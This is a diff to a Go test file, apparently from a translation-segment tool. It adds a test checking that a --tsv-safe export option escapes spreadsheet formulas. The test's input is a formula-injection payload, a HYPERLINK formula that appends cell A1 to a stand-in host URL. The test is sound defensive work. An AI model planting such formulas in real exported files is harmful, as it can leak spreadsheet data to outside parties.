@@ -151,3 +151,20 @@ func TestSegmentRefusesDeviceAndHonoursMaxSize(t *testing.T) {
 		t.Errorf("export --max-size 1KiB: exit %d, %q", code, errs)
 	}
 }
+
+func TestExportTSVSafe(t *testing.T) {
+	_, project := makeProject(t, "article.fr.md")
+	doc, _, _, _, err := segments.Open(project, segments.OpenOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	doc.SetTarget(0, `=HYPERLINK("http://x.example/?"&A1)`, segments.StatusTranslated, time.Now())
+	if err := segments.Save(project, doc); err != nil {
+		t.Fatal(err)
+	}
+	_, plain, _ := runAll("export", project, "--format", "tsv")
+	_, safe, _ := runAll("export", project, "--format", "tsv", "--tsv-safe")
+	if !strings.Contains(plain, "\t=HYPERLINK(") || !strings.Contains(safe, "\t'=HYPERLINK(") {
+		t.Errorf("default:\n%s\n--tsv-safe:\n%s", plain, safe)
+	}
+}
